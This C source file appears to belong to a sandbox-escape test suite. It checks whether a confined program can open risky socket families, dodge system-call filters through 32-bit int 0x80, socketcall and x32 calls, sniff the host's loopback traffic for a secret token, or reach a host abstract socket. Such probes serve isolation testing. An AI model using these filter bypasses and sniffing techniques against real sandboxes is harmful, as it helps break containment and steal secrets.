/* Acts by sockets: families that are only attack surface, and what the host's network namespace shows. */
#include "escape.h"

#include <arpa/inet.h>
#include <linux/audit.h>
#include <linux/if_alg.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#define FAMILY(name, number, type) \
  static void name(void) { succeeds(socket(number, type, 0), "socket(" #number ")"); }
FAMILY(vsock, AF_VSOCK, SOCK_STREAM)
FAMILY(alg, AF_ALG, SOCK_SEQPACKET)
FAMILY(rxrpc, AF_RXRPC, SOCK_DGRAM)
FAMILY(tipc, AF_TIPC, SOCK_STREAM)
FAMILY(xdp, AF_XDP, SOCK_RAW)
FAMILY(smc, AF_SMC, SOCK_STREAM)
FAMILY(bluetooth, AF_BLUETOOTH, SOCK_RAW)

static void key(void) { succeeds(socket(AF_KEY, SOCK_RAW, 2), "socket(AF_KEY)"); }

static void alg_hash(void) {
  struct sockaddr_alg hash = {.salg_family = AF_ALG, .salg_type = "hash", .salg_name = "sha256"};
  int fd = socket(AF_ALG, SOCK_SEQPACKET, 0);
  succeeds(fd < 0 ? fd : bind(fd, (void*)&hash, sizeof hash), "AF_ALG with a hash");
}

/* ---- by the system calls of 32-bit and x32 programs ---- */

#if defined(__x86_64__)
static void no_calls_32(int signal) {
  (void)signal;
  lacks("system calls of 32-bit programs");
  _exit(0);
}

static long call32(long number, long a, long b, long c) {
  long result;
  signal(SIGSEGV, no_calls_32);
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
  if (result >= 0) return result;
  errno = (int)-result;
  return -1;
}

/* socketcall(SYS_SOCKET) takes its arguments from memory, where no filter looks. */
static long socketcall32(int family) {
  uint32_t* arguments = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (arguments == MAP_FAILED) return -1;
  arguments[0] = (uint32_t)family;
  arguments[1] = family == AF_ALG ? SOCK_SEQPACKET : SOCK_STREAM;
  return call32(102, 1, (long)arguments, 0);
}

static void vsock_32(void) { succeeds(call32(359, AF_VSOCK, SOCK_STREAM, 0), "socket(AF_VSOCK) of a 32-bit program"); }
static void vsock_socketcall(void) { succeeds(socketcall32(AF_VSOCK), "socketcall(AF_VSOCK) of a 32-bit program"); }
static void alg_socketcall(void) { succeeds(socketcall32(AF_ALG), "socketcall(AF_ALG) of a 32-bit program"); }
static void vsock_x32(void) { succeeds(syscall(SYS_socket | 0x40000000, AF_VSOCK, SOCK_STREAM, 0), "socket(AF_VSOCK) of an x32 program"); }
#else
static void vsock_32(void) { lacks("an x86 processor"); }
static void vsock_socketcall(void) { lacks("an x86 processor"); }
static void alg_socketcall(void) { lacks("an x86 processor"); }
static void vsock_x32(void) { lacks("an x86 processor"); }
#endif

/* ---- audit: only asks for the state ---- */

static void audit(void) {
  struct {
    struct nlmsghdr head;
    char body[512];
  } message = {.head = {.nlmsg_len = NLMSG_HDRLEN, .nlmsg_type = AUDIT_GET, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK}};
  struct timeval patience = {1, 0};
  int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
  if (fd < 0 || send(fd, &message, message.head.nlmsg_len, 0) < 0) return blocked("NETLINK_AUDIT");
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  if (recv(fd, &message, sizeof message, 0) < 0) return blocked("NETLINK_AUDIT");
  struct nlmsgerr* error = NLMSG_DATA(&message.head);
  errno = message.head.nlmsg_type == NLMSG_ERROR ? -error->error : 0;
  succeeds(errno == 0 ? 0 : -1, "asked the kernel's audit for its state");
}

/* ---- the host's network ---- */

/* The target sends the token over the host's loopback all the time. */
static void sniff(void) {
  struct sockaddr_ll loopback = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex("lo")};
  struct timeval patience = {0, 100000};
  char packet[2048];
  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (fd < 0 || bind(fd, (void*)&loopback, sizeof loopback) != 0) return blocked("AF_PACKET");
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  for (int i = 0; i < 200; ++i) {
    ssize_t size = recv(fd, packet, sizeof packet, 0);
    if (size < 0) return blocked("no packet of the host");
    if (memmem(packet, (size_t)size, goal.token, strlen(goal.token))) return reached("read a packet of the host");
  }
  errno = EAGAIN;
  blocked("no packet of the host");
}

static void abstract_socket(void) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  int size = snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "escape-%s", goal.token);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(fd, (void*)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + (size_t)size)) != 0) return blocked("connect");
  shows_token(fd, "an abstract socket of the host");
}

const struct act socket_acts[] = {
    {34, "sniff", sniff},
    {35, "alg", alg},
    {35, "alg-socketcall", alg_socketcall},
    {35, "audit", audit},
    {35, "bluetooth", bluetooth},
    {35, "key", key},
    {35, "rxrpc", rxrpc},
    {35, "smc", smc},
    {35, "tipc", tipc},
    {35, "vsock", vsock},
    {35, "vsock-32", vsock_32},
    {35, "vsock-socketcall", vsock_socketcall},
    {35, "vsock-x32", vsock_x32},
    {35, "xdp", xdp},
    {36, "abstract-socket", abstract_socket},
    {53, "alg-hash", alg_hash},
    {0, 0, 0},
};
